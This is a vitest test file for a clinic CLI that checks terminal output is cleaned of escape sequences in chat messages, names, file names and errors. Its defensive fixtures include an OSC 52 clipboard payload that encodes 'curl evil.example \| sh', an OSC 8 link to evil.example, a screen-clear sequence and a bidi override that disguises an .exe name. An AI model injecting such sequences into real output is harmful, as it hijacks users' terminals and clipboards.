import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';
import { systemClock } from '../../src/infra/clock.js';
import { runCli } from '../support/cli.js';
import { openClinicalClinic } from '../clinical/clinical-clinic.js';
import { pdf } from '../documents/sample-files.js';

// Text from outside reaches a staff terminal cleaned: a chat message, a name, a file's name cannot
// clear the screen, set the clipboard (OSC 52) or make a link (OSC 8).
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\u0007';
const CLEAR = '\u001b[2J\u001b[H';
const LINK = '\u001b]8;;https://evil.example\u0007Click\u001b]8;;\u0007';
const BIDI = '\u202E';
const hostile = (text: string) => `${text}${CLIPBOARD}${CLEAR}${LINK}${BIDI}`;
const acting = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('what reaches a staff terminal', () => {
  let clinic: Awaited<ReturnType<typeof openClinicalClinic>>;
  let home: string;
  let work: string;
  const writeIn = (name: string) => {
    const path = join(work, name);
    writeFileSync(path, pdf('speech report'));
    return path;
  };
  const roshni = async (argv: string[], as = 'anita', input?: string) =>
    runCli(argv, { ...(await clinic.envOf(as)), ROSHNI_HOME: home }, input === undefined ? {} : { input });

  beforeAll(async () => {
    clinic = await openClinicalClinic();
    home = mkdtempSync(join(tmpdir(), 'roshni-terminal-home-'));
    work = mkdtempSync(join(tmpdir(), 'roshni-terminal-files-'));
  });
  afterAll(async () => {
    await clinic?.close();
    rmSync(home, { recursive: true, force: true });
    rmSync(work, { recursive: true, force: true });
  });

  it('shows a chat message sent to the clinic without its escape sequences, in `inbox show` and `inbox list`', async () => {
    const patient = clinic.clinic.patients[0]!;
    // The family picks "Talk to the clinic" (6) and writes.
    const chat = await roshni(['chat', '--as', patient.phone!], 'desk', `6\n${hostile('Please call me नमस्ते 🙏')}\n/quit\n`);
    expect(chat.code, chat.stderr).toBe(0);
    expect(chat.stdout).not.toMatch(acting);

    const list = await roshni(['inbox', 'list'], 'desk');
    expect(list.code, list.stderr).toBe(0);
    const id = Number(/^\s*(\d+)\s+terminal/m.exec(list.stdout)![1]);

    const shown = await roshni(['inbox', 'show', String(id)], 'desk');
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout).toContain('Please call me नमस्ते 🙏Click');
    expect(shown.stdout).not.toMatch(acting);
    expect(shown.stdout).not.toContain('\u001b');

    // --json is the message as it was sent, its escapes harmless.
    const json = await roshni(['inbox', 'show', String(id), '--json'], 'desk');
    expect(json.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    expect(JSON.parse(json.stdout).some((m: { body: string }) => m.body === hostile('Please call me नमस्ते 🙏'))).toBe(true);
  });

  it("indents a message's own lines, so none passes for a message of the clinic's", async () => {
    const [conversation] = await clinic.database.db.selectFrom('bot_conversations').select('id').execute();
    await clinic.database.db
      .insertInto('inbox_messages')
      .values({ conversation_id: conversation!.id, direction: 'in', body: 'ok\n1 Dec, 10:00 → Your refund is ready' })
      .execute();
    const shown = await roshni(['inbox', 'show', String(conversation!.id)], 'desk');
    expect(shown.stdout).toContain('ok\n    1 Dec, 10:00 → Your refund is ready');
  });

  it('shows a name kept with escape sequences (registered before they were refused) cleaned, in lists, profiles and tables', async () => {
    const [patient] = await clinic.database.db
      .insertInto('patients')
      .values({ full_name: hostile('Kabir Rao'), phone: '+919811122233' })
      .returning(['id', 'patient_number'])
      .execute();
    for (const argv of [
      ['patient', 'show', patient!.patient_number],
      ['patient', 'find', 'Kabir'],
      ['patient', 'find', 'Kabir', '--json'],
    ]) {
      const run = await roshni(argv, 'desk');
      expect(run.code, `${argv.join(' ')}: ${run.stderr}`).toBe(0);
      expect(run.stdout).toContain('Kabir Rao');
      expect(run.stdout, argv.join(' ')).not.toMatch(acting);
    }
  });

  it("shows a document's file name kept with escape sequences cleaned (new names with them are refused)", async () => {
    const refused = await roshni(['doc', 'add', 'P-00001', writeIn(`report${CLEAR}.pdf`), '--type', 'report'], 'priya');
    expect(refused.code).toBe(2);
    const added = await roshni(['doc', 'add', 'P-00001', writeIn('report.pdf'), '--type', 'report', '--json'], 'priya');
    expect(added.code, added.stderr).toBe(0);
    await clinic.database.db
      .updateTable('documents')
      .set({ original_name: `report${CLIPBOARD}${CLEAR}${BIDI}fdp.exe.pdf` })
      .where('id', '=', JSON.parse(added.stdout).id)
      .execute();
    const listed = await roshni(['doc', 'list', 'P-00001'], 'priya');
    expect(listed.code, listed.stderr).toBe(0);
    expect(listed.stdout).toContain('reportfdp.exe.pdf');
    expect(listed.stdout).not.toMatch(acting);
  });

  it('refuses a name with control characters or direction overrides at registration, as it refuses such a file name', async () => {
    const patient = await roshni(['patient', 'add', '--name', hostile('Ira Sen'), '--phone', '+919811100011'], 'desk');
    expect(patient.code).toBe(2);
    expect(patient.stderr).toMatch(/must not contain control characters/);
    expect(patient.stderr).not.toMatch(acting);
    const guardian = await roshni(['guardian', 'add', '--name', `Ravi${BIDI}neS`, '--phone', '+919811100012'], 'desk');
    expect(guardian.code).toBe(2);
    const hindi = await roshni(['patient', 'add', '--name', 'आरव शर्मा', '--phone', '+919811100013'], 'desk');
    expect(hindi.code, hindi.stderr).toBe(0);
  });

  it("gives a document's bytes to a pipe but not to a terminal", async () => {
    const [doc] = await clinic.database.db.selectFrom('documents').select('id').execute();
    const stdout = Object.assign(new PassThrough(), { isTTY: true });
    const stderr = new PassThrough();
    const code = await main(['doc', 'get', String(doc!.id), '--out', '-'], {
      stdout,
      stderr,
      stdin: new PassThrough(),
      env: { ...(await clinic.envOf('priya')), ROSHNI_HOME: home },
      clock: systemClock,
    });
    expect(code).toBe(2);
    expect(String(stderr.read())).toMatch(/standard output is a terminal/);
    expect(stdout.read()).toBeNull();
    const piped = await roshni(['doc', 'get', String(doc!.id), '--out', '-'], 'priya');
    expect(piped.code, piped.stderr).toBe(0);
    expect(piped.stdout).toContain('%PDF');
  });

  it('cleans an error that repeats what was typed', async () => {
    const run = await roshni(['patient', 'show', hostile('nobody')], 'desk');
    expect(run.code).toBe(3);
    expect(run.stderr).toContain('nobody');
    expect(run.stderr).not.toMatch(acting);
  });
});
